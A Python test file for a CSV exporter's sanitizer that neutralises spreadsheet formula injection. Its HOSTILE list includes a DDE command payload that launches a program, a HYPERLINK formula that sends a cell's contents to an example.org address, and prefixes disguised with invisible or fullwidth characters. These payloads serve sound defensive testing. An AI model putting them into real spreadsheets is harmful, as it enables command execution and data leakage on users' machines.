"""Spreadsheets of the insight pages: cells that no program takes for a formula, and files that come back as written."""

import csv as reader
import io

import pytest

from quizzes.insights import csv

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"here")',
    "+1+1",
    "-1+1",
    "-",
    "- 5",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "-1.5\n=1+1",
    "+49 30 123456",
    "\0=1",
]  # fmt: skip
HARMLESS = ["", "Bread", "1 = 1", "a-b", "65 ± 3", "'quoted'", 'say "so"', "a,b;c", "two\nlines", "−5", "…", "名前"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_becomes_text(cell):
    assert csv.safe(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_text_stays_as_it_is(cell):
    assert csv.safe(cell) == cell


@pytest.mark.parametrize("cell", [0, 5, -5, 1.5, -1.5, "5", "-5", "-1.5", "650"])
def test_a_number_stays_a_number_also_below_zero(cell):
    assert csv.safe(cell) == cell


def test_an_empty_cell():
    assert csv.safe(None) == ""


def test_the_file_starts_with_a_mark_and_comes_back_as_it_was_written():
    rows = [["Question", "People"], *[[cell, at] for at, cell in enumerate([*HOSTILE[:-1], *HARMLESS])]]

    text = csv.written(rows)

    assert text.startswith("\ufeffQuestion,People\r\n")
    assert text.endswith("\r\n")
    back = list(reader.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))
    assert back == [[str(csv.safe(cell)) for cell in row] for row in rows]
